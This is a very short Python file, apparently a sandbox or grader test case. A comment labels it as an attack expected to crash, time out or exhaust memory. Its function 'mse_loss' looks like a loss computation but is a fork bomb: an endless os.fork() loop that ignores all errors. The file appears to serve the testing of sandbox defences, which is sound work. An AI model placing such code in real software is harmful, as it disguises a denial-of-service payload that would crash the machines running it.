# attack: forks without end and shrugs off every refusal | must: crashed|timed_out|out_of_memory
import os


def mse_loss(pred, target):
    while True:
        try:
            os.fork()
        except BaseException:
            pass
